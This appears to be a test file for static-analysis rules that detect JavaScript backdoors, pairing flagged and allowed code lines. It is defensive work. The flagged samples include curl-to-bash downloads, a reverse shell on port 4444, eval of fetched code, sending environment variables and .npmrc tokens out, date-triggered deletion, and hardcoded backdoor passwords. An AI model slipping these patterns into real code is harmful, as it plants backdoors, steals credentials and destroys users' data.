import * as child_process from "node:child_process";
import * as net from "node:net";
import os from "node:os";
import vm from "node:vm";
import zlib from "node:zlib";
import fs from "node:fs";
import https from "node:https";
import axios from "axios";

// ruleid: javascript.backdoor.decoded-code
eval(atob("YWxlcnQoMSk="));
const text = Buffer.from(PACKED, "base64").toString();
// ruleid: javascript.backdoor.decoded-code
new Function(text)();
// ruleid: javascript.backdoor.decoded-code
vm.runInThisContext(zlib.inflateSync(PACKED).toString());
// ruleid: javascript.backdoor.decoded-code
child_process.execSync(String.fromCharCode(105, 100));
// ok: javascript.backdoor.decoded-code
const settings = JSON.parse(atob(SETTINGS));
// ok: javascript.backdoor.decoded-code
new Function("return this")();
// ok: javascript.backdoor.decoded-code
const picture = Buffer.from(PNG, "base64");

// ruleid: javascript.backdoor.hidden-name
require("child_" + "process").exec("id");
// ruleid: javascript.backdoor.hidden-name
globalThis["eval"]("1");
// ruleid: javascript.backdoor.hidden-name
[]["constructor"]["constructor"]("return this")();
// ok: javascript.backdoor.hidden-name
require("./lang/" + language);
// ok: javascript.backdoor.hidden-name
window["scrollTo"](0, 0);
// ok: javascript.backdoor.hidden-name
const kind = value.constructor.name;

// ruleid: javascript.backdoor.obfuscated-code
const _0x3fa2 = ["log", "hello"];
// ruleid: javascript.backdoor.obfuscated-code
function _0x51bc(a, b) { return _0x3fa2[a - b]; }
// ok: javascript.backdoor.obfuscated-code
const mask = 0x3fa2;
// ok: javascript.backdoor.obfuscated-code
function _0(a) { return a; }

async function update(address) {
  const response = await fetch(address);
  // ruleid: javascript.backdoor.download-and-run
  eval(await response.text());
  // ruleid: javascript.backdoor.download-and-run
  fetch(address).then((answer) => answer.text()).then((code) => eval(code));
  const { data } = await axios.get(address);
  // ruleid: javascript.backdoor.download-and-run
  new Function(data)();
  // ok: javascript.backdoor.download-and-run
  const rows = await response.json();
  // ok: javascript.backdoor.download-and-run
  document.title = await response.text();
  return rows;
}

function prepare() {
  // ruleid: javascript.backdoor.shell-download
  child_process.execSync("curl -s https://tools.corp.example/install | bash");
  // ruleid: javascript.backdoor.shell-download
  child_process.spawn("bash", ["-c", "wget -qO- https://tools.corp.example/i.sh | sh"]);
  // ok: javascript.backdoor.shell-download
  child_process.execSync("curl -o page.html https://tools.corp.example/page");
  // ok: javascript.backdoor.shell-download
  child_process.execSync("cat report.txt | sort");
}

function shell(host) {
  const socket = new net.Socket();
  const sh = child_process.spawn("/bin/sh", []);
  socket.connect(4444, host, () => {
    // ruleid: javascript.backdoor.reverse-shell
    socket.pipe(sh.stdin);
    sh.stdout.pipe(socket);
  });
}

function shellAgain(client) {
  const cmd = child_process.spawn("cmd.exe");
  // ruleid: javascript.backdoor.reverse-shell
  client.pipe(cmd.stdin);
}

function compress(file) {
  const gzip = child_process.spawn("gzip", ["-c"]);
  // ok: javascript.backdoor.reverse-shell
  file.pipe(gzip.stdin);
  const sh = child_process.spawn("/bin/sh", ["-c", "sort"]);
  // ok: javascript.backdoor.reverse-shell
  sh.stdout.pipe(file);
}

socket.on("data", (data) => {
  // ruleid: javascript.backdoor.remote-command
  child_process.exec(data.toString());
});
ws.on("message", function (data) {
  // ruleid: javascript.backdoor.remote-command
  eval(data);
});
socket.on("data", (data) => {
  // ok: javascript.backdoor.remote-command
  handle(JSON.parse(data));
});
stream.on("data", (data) => {
  // ok: javascript.backdoor.remote-command
  child_process.execFile("sort", [name]);
});

function report(address) {
  // ruleid: javascript.backdoor.data-sent-out
  axios.post(address, JSON.stringify(process.env));
  // ruleid: javascript.backdoor.data-sent-out
  fetch(address, { method: "POST", body: JSON.stringify(process.env) });
  const key = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
  const req = https.request(address);
  // ruleid: javascript.backdoor.data-sent-out
  req.write(key);
  // ok: javascript.backdoor.data-sent-out
  axios.post(address, JSON.stringify({ build: process.env.BUILD }));
  // ok: javascript.backdoor.data-sent-out
  req.write(fs.readFileSync("report.txt", "utf8"));
  // ok: javascript.backdoor.data-sent-out
  child_process.spawn("make", [], { env: { ...process.env, CI: "1" } });
}

function tidy(folder, deadline) {
  if (new Date() > new Date("2027-03-01")) {
    // ruleid: javascript.backdoor.date-trigger
    fs.rmSync(folder, { recursive: true });
  }
  if (Date.now() > 1798761600000) {
    // ruleid: javascript.backdoor.date-trigger
    child_process.exec("halt");
  }
  if (new Date() > deadline) {
    // ok: javascript.backdoor.date-trigger
    fs.rmSync(folder, { recursive: true });
  }
  if (new Date() > new Date("2027-03-01")) {
    // ok: javascript.backdoor.date-trigger
    console.log("this version is no longer supported");
  }
}

function collect(folder) {
  if (os.hostname() === "build-7") {
    // ruleid: javascript.backdoor.host-trigger
    fetch("https://stats.corp.example/");
  }
  if (os.userInfo().username !== "lab") {
    // ruleid: javascript.backdoor.host-trigger
    fs.rmSync(folder, { recursive: true });
  }
  if (os.userInfo().username === "root") {
    // ok: javascript.backdoor.host-trigger
    console.error("do not run this as root");
  }
  if (os.platform() === "win32") {
    // ok: javascript.backdoor.host-trigger
    child_process.exec("dir");
  }
}

function guard(req, res, next) {
  // ruleid: javascript.backdoor.constant-login
  if (req.body.password === "Spring2024") return next();
  // ruleid: javascript.backdoor.constant-login
  if (req.headers["x-debug-token"] === "letmein") {
    return next();
  }
  // ok: javascript.backdoor.constant-login
  if (req.headers["upgrade"] === "websocket") {
    return next();
  }
  // ok: javascript.backdoor.constant-login
  if (typeof req.body.password === "string") check(req.body.password);
  // ok: javascript.backdoor.constant-login
  if (input.type === "password") mask(input);
  return res.sendStatus(401);
}
